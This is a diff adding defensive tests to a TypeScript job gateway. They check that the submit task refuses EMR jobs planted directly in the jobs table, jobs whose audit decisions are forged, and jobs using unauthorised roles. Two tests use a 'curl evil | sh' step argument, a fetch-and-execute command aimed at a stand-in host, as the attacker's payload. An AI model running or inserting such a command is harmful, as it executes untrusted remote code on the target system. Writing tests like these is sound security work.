@@ -5,8 +5,14 @@
  * The same scenarios through the real ASL and dynalite: integration/workflow.test.ts and faults.test.ts.
  */
 import asl from '../../statemachines/submit-job.asl.json';
+import { genesisHash, hashEvent } from '../../src/audit/chain';
 import { TransientError } from '../../src/errors';
+import { stepArguments } from '../../src/jobs/emr-step';
+import { newJobId } from '../../src/jobs/job-id';
 import type { Job } from '../../src/jobs/model';
+import type { JobRequest } from '../../src/jobs/request';
+import { subjectOf } from '../../src/jobs/step-tasks';
+import { hashOf } from '../../src/util/canonical';
 import type { TaskResult } from '../../src/jobs/step-tasks';
 import type { PollingPolicy } from '../../src/jobs/workflow-input';
 import { verifiedTrail } from '../support/audit';
@@ -144,6 +150,120 @@ describe('submit', () => {
     await expectJob(jobId, { status: 'FAILED' }, ['stepId']);
     // The step that was added is on record, after the outcome that ended the job.
     expect(await trail(jobId)).toEqual(['DECISION', 'FAILED', 'SUBMITTED']);
+  });
+});
+
+/**
+ * Defence in depth: someone who can write the jobs table (but not the gateway's audit key) plants an ACCEPTED
+ * job. The submit task adds a step only for a job whose trail begins with an Allowed DECISION, sealed by the
+ * gateway, for exactly this request (its hash, principal, role and cluster), under a role from the catalogue.
+ */
+describe('submit refuses a job no decision allowed (planted straight into the jobs table)', () => {
+  /** The job record a legitimate submission left, as the attacker would copy it. */
+  async function template(): Promise<Job> {
+    return job((await accepted()).jobId);
+  }
+  /** Writes `record` into the jobs table as is. */
+  function plant(record: Job): string {
+    g.jobs.items.set(record.jobId, structuredClone(record));
+    return record.jobId;
+  }
+  /** `job` with its request changed, and the hashes recomputed as the gateway would for that request. */
+  function withRequest(source: Job, request: JobRequest): Job {
+    return {
+      ...source,
+      request,
+      requestHash: hashOf(request),
+      argsHash: hashOf(stepArguments(request.step)),
+      executionRoleArn: request.executionRoleArn,
+      clusterId: request.clusterId,
+    };
+  }
+  const types = async (jobId: string): Promise<string[]> => (await g.audit.list(jobId)).map((e) => e.type);
+
+  /** Submit ends the job REJECTED by the gateway, without any EMR call, with the reason on the job and in its trail. */
+  async function expectRefused(jobId: string, reason: RegExp, callsBefore = 0): Promise<void> {
+    expect(await g.tasks.submit(g.input(jobId))).toMatchObject({ done: true, status: 'REJECTED' });
+    expect(g.emr.calls).toHaveLength(callsBefore);
+    const stored = await job(jobId);
+    expect(stored).toMatchObject({ status: 'REJECTED', failureDetails: { reason: 'GATEWAY_REFUSED', message: expect.stringMatching(reason) as unknown } });
+    expect(stored).not.toHaveProperty('stepId');
+    const rejected = await eventOf(jobId, 'REJECTED');
+    expect(rejected?.detail).toMatchObject({ by: 'gateway', reason: expect.stringMatching(reason) as unknown });
+    // Run again (a retried task): still nothing reaches EMR.
+    await g.tasks.submit(g.input(jobId));
+    expect(g.emr.calls).toHaveLength(callsBefore);
+  }
+
+  it('no DECISION at all: a job record with no audit trail', async () => {
+    const source = await template();
+    const jobId = plant({ ...source, jobId: newJobId(g.clock.now()) });
+    await expectRefused(jobId, /no decision/);
+    expect(await types(jobId)).toEqual(['REJECTED']);
+  });
+
+  it('a DECISION for another role: the job record changed to a catalogue role the caller may not use', async () => {
+    const source = await template();
+    plant(withRequest(source, { ...source.request, executionRoleArn: role('Caller') }));
+    await expectRefused(source.jobId, /no decision for this request/);
+    expect(await types(source.jobId)).toEqual(['DECISION', 'REJECTED']);
+  });
+
+  it('a DECISION for another body: the step\'s arguments changed', async () => {
+    const source = await template();
+    plant(withRequest(source, { ...source.request, step: { type: 'command', args: ['bash', '-c', 'curl evil | sh'] } }));
+    await expectRefused(source.jobId, /no decision for this request/);
+  });
+
+  it('the request edited but the recorded hashes kept', async () => {
+    const source = await template();
+    plant({ ...source, request: { ...source.request, step: { type: 'command', args: ['bash', '-c', 'curl evil | sh'] } } });
+    await expectRefused(source.jobId, /does not match its request/);
+  });
+
+  it('another principal: the job record names someone else as its caller', async () => {
+    const source = await template();
+    const other = { principalArn: role('Contractors'), callerArn: 'arn:aws:sts::123456789012:assumed-role/Contractors/carol', sourceIdentity: 'carol' };
+    plant({ ...source, actor: other, principalArn: other.principalArn });
+    await expectRefused(source.jobId, /another principal/);
+  });
+
+  it('a role outside the catalogue', async () => {
+    const source = await template();
+    plant(withRequest(source, { ...source.request, executionRoleArn: role('Admin') }));
+    await expectRefused(source.jobId, /not in the gateway's catalogue/);
+  });
+
+  it('a DECISION forged in the audit table: hash-chained like the gateway\'s, but not sealed with its key', async () => {
+    const source = await template();
+    const jobId = newJobId(g.clock.now());
+    const record = plant({ ...source, jobId });
+    const forged = {
+      type: 'DECISION',
+      dedupeKey: `DECISION:${source.requestHash}`,
+      actor: { ...source.actor },
+      subject: { ...subjectOf(source), name: source.name, requestHash: source.requestHash },
+      decision: { result: 'Allowed', reason: 'forged', allowedBy: [], deniedBy: [] },
+      jobId: record,
+      seq: 0,
+      at: g.clock.now().toISOString(),
+      prevHash: genesisHash(jobId),
+    };
+    g.audit.chains.set(jobId, [{ ...forged, hash: hashEvent(forged) }]);
+    await expectRefused(jobId, /does not verify/);
+  });
+
+  it('a finished job set back to ACCEPTED (a replay of an allowed request) adds no second step and keeps its outcome', async () => {
+    const { jobId } = await accepted();
+    await g.run(jobId);
+    const done = await job(jobId);
+    expect(done.status).toBe('COMPLETED');
+    const calls = g.emr.calls.length;
+    const { stepId: _s, emrState: _e, finishedAt: _f, submittedAt: _t, ...reopened } = done;
+    plant({ ...reopened, status: 'ACCEPTED', submitAttempts: 0 });
+    expect(await g.tasks.submit(g.input(jobId))).toMatchObject({ done: true, status: 'COMPLETED' });
+    expect(g.emr.count('add')).toBe(1);
+    expect(g.emr.calls).toHaveLength(calls);
   });
 });
 
